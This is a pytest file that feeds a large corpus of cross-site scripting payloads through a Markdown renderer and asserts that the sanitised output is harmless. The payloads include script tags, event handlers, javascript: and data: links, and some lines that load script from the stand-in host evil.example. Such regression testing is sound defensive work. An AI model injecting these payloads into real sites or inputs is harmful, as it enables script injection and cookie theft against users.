"""A corpus of known cross-site scripting payloads through the whole Markdown pipeline.

Each payload is rendered without mentions, with a map of handles (so the mention
step runs and splits text), and with a hostile map (a mention URL that is itself a
script URL, which the sanitiser must still strip). The output is parsed with
html.parser and checked element by element (tests.test_markdown.assert_harmless):
only allowlisted tags, attributes and classes, no `on*` handler, no script URL.
"""

import pytest

from core.markdown import render_markdown
from tests.test_markdown import XSS as BASIC_PAYLOADS
from tests.test_markdown import assert_harmless, elements

PAYLOADS = [
    # Script elements, in every disguise.
    "<script>alert(document.cookie)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # Event handlers.
    "<img src=x onerror=alert(1)//>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onpageshow=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<button onclick=alert(1)>click</button>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onclick='alert(1)'>para</p>",
    "<table background=javascript:alert(1)>",
    '<td background="javascript:alert(1)">',
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>x</x>",
    # SVG and MathML.
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><image href="javascript:alert(1)"/></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS.
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    '<td style="text-align:left; background:url(javascript:alert(1))">x</td>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<div style="behavior: url(x.htc)">x</div>',
    '<span style="-moz-binding:url(//evil.example/x.xml#x)">x</span>',
    # Frames, objects, bases and forms.
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    "<embed code=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<input type="image" src="javascript:alert(1)">',
    "<applet code=javascript:alert(1)></applet>",
    # Markdown links and images.
    "[click](javascript:alert(document.domain))",
    "[click](javascript:void(0))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav&#x0A;ascript:alert(1))",
    "[click](\\javascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
    "[click](vbscript:alert(1))",
    "[click](VBScript:MsgBox(1))",
    "[click](livescript:alert(1))",
    "[click](file:///etc/passwd)",
    "![img](javascript:alert(1) \"title\")",
    "![img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](vbscript:alert(1))",
    '![x"onerror="alert(1)](https://example.org/a.png)',
    "![x](https://example.org/a.png 'x\" onerror=\"alert(1)')",
    '[x](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org/?a=<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: vbscript:alert(1)",
    "[![img](https://example.org/a.png)](javascript:alert(1))",
    "[x](#\" onclick=\"alert(1))",
    "[x](<javascript:alert(1)> \"t\")",
    "[x](java%0ascript:alert(1))",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
    # Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://example.org/\"onclick=\"alert(1)>",
    "<mailto:x@example.org?body=<script>alert(1)</script>>",
    "https://example.org/<script>alert(1)</script>",
    # Entities and nested quotes.
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<img src=\"x\" alt='\"' onerror=alert(1)>",
    '<a href="https://example.org" title=\'"><script>alert(1)</script>\'>x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "</code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```javascript\nalert(document.cookie)\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ onload=alert(1)\nx\n~~~",
    # Mentions.
    "@<script>alert(1)</script>",
    "@max<script>alert(1)</script>",
    "@max\"onmouseover=\"alert(1)",
    "@max'><img src=x onerror=alert(1)>",
    "[@max](javascript:alert(1))",
    "@[max](javascript:alert(1))",
    "**@max**<img src=x onerror=alert(1)>",
    "@javascript:alert(1)",
    "@onerror=alert(1)",
    "@max @script @onerror @javascript",
    "`@max` <script>@max</script>",
    "| @max | <img src=x onerror=alert(1)> |\n|---|---|\n| @x | @max |",
]

MENTION_URLS = {"max": "/people/2/", "script": "/people/3/", "onerror": "/people/4/", "javascript": "/people/5/"}
HOSTILE_MENTION_URLS = {"max": "javascript:alert(1)", "script": "data:text/html,x", "x": "vbscript:x"}

ALL = PAYLOADS + BASIC_PAYLOADS


def test_the_corpus_holds_well_over_a_hundred_distinct_payloads():
    assert len(set(ALL)) >= 150


@pytest.mark.parametrize("payload", ALL)
@pytest.mark.parametrize(
    "mention_urls", [None, MENTION_URLS, HOSTILE_MENTION_URLS], ids=["plain", "mentions", "hostile-mentions"]
)
def test_no_payload_survives_the_pipeline(payload, mention_urls):
    assert_harmless(render_markdown(payload, mention_urls))


def test_mention_links_keep_only_safe_urls():
    html = render_markdown("@max and @script", HOSTILE_MENTION_URLS)

    assert all("href" not in attrs for tag, attrs in elements(html) if tag == "a")
